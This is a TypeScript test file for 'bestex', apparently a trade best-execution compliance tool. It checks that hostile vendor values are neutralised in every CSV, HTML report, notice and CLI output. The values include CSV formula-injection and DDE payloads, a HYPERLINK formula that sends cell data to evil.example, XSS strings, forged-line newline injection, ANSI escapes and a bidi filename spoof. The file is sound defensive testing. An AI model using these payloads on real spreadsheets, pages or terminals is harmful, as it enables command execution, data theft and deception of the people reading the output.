/**
 * Vendor values built to attack whoever reads bestex's outputs, sent through every output a person
 * reads: the exceptions CSV, notice and HTML report; the review notices; the package's CSVs and
 * HTML report; the CLI's tables, CSV and text. CSVs are read back with a second RFC 4180 reader
 * (lambdas/core/regulatory/csvw.ts) and HTML with a real DOM parser (linkedom), not with the writers.
 */
import { createHash } from 'node:crypto';
import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import type { PackageSink } from '../../lambdas/adapters/package-store';
import {
  composeExceptionNotice,
  type ExceptionRow,
  exceptionSettings,
  renderExceptionsCsv,
} from '../../lambdas/core/exceptions/exceptions';
import { renderExceptionsHtml } from '../../lambdas/core/exceptions/html';
import { renderReviewHtml } from '../../lambdas/core/package/report';
import type { ReviewPackageData } from '../../lambdas/core/package/types';
import { parseCsvRecords } from '../../lambdas/core/regulatory/csvw';
import { composeDueDiligenceNotice } from '../../lambdas/core/regulatory/due-diligence';
import { evaluateThresholds } from '../../lambdas/core/review/evaluate';
import { initialMonitoring } from '../../lambdas/core/review/monitoring';
import { composeNotices } from '../../lambdas/core/review/notify';
import { writeReviewPackage } from '../../lambdas/package/package';
import { safeMessage } from '../../lambdas/shared/notice';
import { csv, formatCell, table, terminalText } from '../../lib/cli/support/output';
import { exceptionRow as plantedRow } from '../exceptions/planted';
import { fixture } from '../package/fixtures';
import { piMarketRule, piRow, thresholds } from '../review/fixtures';

/** Each would run, mislead or hide something if written raw. */
const H = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
  newline: 'E1\nFAKE: compliance review passed, no action needed',
  ansi: 'AAPL\u001b[2J\u001b[31mRED',
  bidi: 'ABC\u202eFDP.exe',
  script: '<script>alert(1)</script>',
  attr: '" onmouseover="alert(1)',
} as const;

/** Starts as a spreadsheet formula would (and is not a plain number). Written here from the OWASP list, not from the code. */
const looksLikeFormula = (cell: string): boolean =>
  /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell));
/** Characters that must never reach a terminal or an email from a vendor value. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the test
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function readCsv(text: string): string[][] {
  const r = parseCsvRecords(text);
  expect(r.errors).toEqual([]);
  return r.records;
}

/** Every cell of a CSV: none is a formula, and each hostile value is there as text (an apostrophe before a formula). */
function expectSafeCsv(text: string, values: readonly string[]): void {
  const cells = readCsv(text).flat();
  expect(cells.filter(looksLikeFormula)).toEqual([]);
  for (const v of values) {
    const shown = looksLikeFormula(v) ? `'${v}` : v;
    expect(cells, JSON.stringify(v)).toContain(shown);
  }
}

/** The DOM of an HTML output: no script element, no event-handler attribute, and the hostile text shown as text. */
function expectSafeHtml(html: string, shown: readonly string[]): void {
  const { document } = parseHTML(html);
  expect(document.querySelectorAll('script').length).toBe(0);
  type El = { tagName: string; attributes: ArrayLike<{ name: string }> };
  const handlers = ([...document.querySelectorAll('*')] as unknown as El[]).flatMap((el) =>
    Array.from(el.attributes)
      .filter((a) => a.name.toLowerCase().startsWith('on'))
      .map((a) => `${el.tagName} ${a.name}`),
  );
  expect(handlers).toEqual([]);
  const text = document.body?.textContent ?? '';
  for (const s of shown) expect(text, s).toContain(s);
}

/** A notice body: no vendor value started a line of its own or left a control character. */
function expectSafeNotice(message: string): void {
  const lines = message.split('\n');
  expect(lines.filter((l) => l.startsWith('FAKE'))).toEqual([]);
  expect(lines.filter((l) => CONTROL.test(l))).toEqual([]);
  expect(message).toContain('E1\\nFAKE: compliance review passed');
}

const exceptionRow = (over: Partial<ExceptionRow>): ExceptionRow => plantedRow({ severity: 'high', ...over });

describe('hostile vendor values through every output', () => {
  const rows: ExceptionRow[] = [
    exceptionRow({ order_id: H.formula, exec_id: H.newline, symbol: H.ansi, venue: H.plus, detail: H.minus }),
    exceptionRow({ order_id: H.at, exec_id: H.tab, symbol: H.bidi, venue: H.cr, detail: H.script, value: -0.5 }),
    exceptionRow({
      kind: 'unapproved_venue',
      order_id: H.attr,
      exec_id: 'E\r\nFAKE: compliance review passed',
      venue: H.script,
      detail: H.attr,
    }),
  ];

  it('exceptions CSV: every formula neutralised, every value kept as text, numbers as numbers', () => {
    const text = renderExceptionsCsv(rows);
    expectSafeCsv(text, [H.formula, H.plus, H.minus, H.at, H.tab, H.cr, H.newline, H.ansi, H.script, H.attr]);
    expect(readCsv(text).map((r) => r[9])).toContain('-0.5');
  });

  it('exceptions notice: no vendor value starts a line or leaves a control character', () => {
    const n = composeExceptionNotice('2026-07-01', rows, exceptionSettings({ notifyAt: 'low' }));
    expectSafeNotice(n?.message ?? '');
    expect(n?.subject).not.toMatch(CONTROL);
  });

  it('exceptions HTML: no script, no handler attribute, the values shown as text', () => {
    expectSafeHtml(renderExceptionsHtml('2026-07-01', rows), [H.script, H.attr.trim(), H.formula]);
  });

  it('due-diligence notice', () => {
    const n = composeDueDiligenceNotice(
      '2026-07-01',
      [
        {
          source: H.newline,
          latest_effective_from: null,
          stale_before: '2025-07-01',
          age_days: null,
          venues: 0,
          approved_venues: 0,
          active: true,
          stale: true,
        } as never,
      ],
      12,
    );
    expectSafeNotice(n?.message ?? '');
    expect(n?.subject).not.toMatch(CONTROL);
  });

  it('review notice: a symbol with a newline or an escape sequence stays inside its line', () => {
    const rules = thresholds([piMarketRule()]);
    const current = [H.newline, H.ansi, H.bidi].map((symbol) =>
      piRow({ source: 'acme-sor', symbol, value: 0.0001, std_dev: 0.0002, n_eff: 400, n_orders: 800 }),
    );
    const outcomes = evaluateThresholds({ period: '2026Q3', current, thresholds: rules });
    expect(outcomes.filter((o) => o.status === 'breach')).toHaveLength(3);
    const [n] = composeNotices(outcomes, {
      period: '2026Q3',
      packageUri: 's3://results/packages/2026Q3/acme-sor/',
      monitoring: { 'acme-sor': initialMonitoring() },
    });
    expectSafeNotice(n?.message ?? '');
  });

  describe('review package', () => {
    const data: ReviewPackageData = (() => {
      const f = fixture();
      const swap = (s: string) => (s === 'AAPL' ? H.script : s === 'MSFT' ? H.formula : s === 'BRK.B' ? H.attr : s);
      return {
        ...f,
        metrics: f.metrics.map((m) => ({ ...m, symbol: swap(m.symbol) })),
        outcomes: f.outcomes.map((o) => ({ ...o, symbol: swap(o.symbol ?? '*'), action: `${H.script} ${o.action ?? ''}`, note: H.attr })),
        venues: (f.venues ?? []).map((v) => ({ ...v, name: `${v.name} ${H.script}` })),
        ...(f.reconciliation
          ? { reconciliation: f.reconciliation.map((r) => ({ ...r, symbol: swap(r.symbol ?? '*'), note: H.script })) }
          : {}),
      };
    })();

    it('report HTML: no script, no handler attribute, the vendor values shown as text', () => {
      expectSafeHtml(renderReviewHtml(data), [H.script, H.formula]);
    });

    it('metrics.csv and breaches.csv: formulas neutralised, values kept', async () => {
      const objects = new Map<string, Buffer>();
      const sink: PackageSink = {
        bucket: 'results',
        async put(key, body) {
          const b = Buffer.isBuffer(body) ? body : Buffer.from(body);
          objects.set(key, b);
          return { sha256: createHash('sha256').update(b).digest('hex') };
        },
      };
      await writeReviewPackage({
        period: '2026Q3',
        runId: 'r1',
        generatedAt: '2026-10-05T11:00:00.000Z',
        codeVersion: 'abc1234',
        thresholds: { path: 'config/thresholds.json', version: 'v1', sha256: '0'.repeat(64) },
        sql: [],
        inputs: [],
        queryExecutionIds: [],
        metrics: data.metrics,
        outcomes: data.outcomes,
        findings: [],
        sources: ['vendor-a'],
        sink,
      });
      const file = (name: string) => (objects.get(`packages/2026Q3/vendor-a/${name}`) as Buffer).toString('utf8');
      expectSafeCsv(file('metrics.csv'), [H.script, H.formula, H.attr]);
      expectSafeCsv(file('breaches.csv'), [H.script]);
      // A negative figure is still a number a spreadsheet can sum.
      expect(
        readCsv(file('breaches.csv'))
          .flat()
          .some((c) => /^-\d/.test(c)),
      ).toBe(true);
    });
  });

  describe('CLI', () => {
    const r = { key: H.newline, symbol: H.ansi, reason: H.bidi, n: -3 };

    it('table cells and printed text hold no control character', () => {
      const text = terminalText(table(['key', 'symbol', 'reason', 'n'], [r]));
      expect(text.split('\n')).toHaveLength(3);
      expect(text).not.toMatch(CONTROL);
      expect(formatCell(H.cr)).toBe('\\r=1+1');
      expect(terminalText(`Loaded ${H.ansi}\nnext line`)).toBe('Loaded AAPL\\u001b[2J\\u001b[31mRED\nnext line');
    });

    it('--format csv goes through the one CSV writer', () => {
      expectSafeCsv(csv(['key', 'symbol', 'reason', 'n', 'f'], [{ ...r, f: H.formula }]), [H.newline, H.ansi, H.formula]);
    });
  });

  it('publish keeps a notice’s own line breaks and nothing else (the backstop for any composer)', () => {
    expect(safeMessage(`line 1 ${H.ansi}\nline 2 ${H.cr}\n`)).toBe('line 1 AAPL\\u001b[2J\\u001b[31mRED\nline 2 \\r=1+1\n');
  });
});
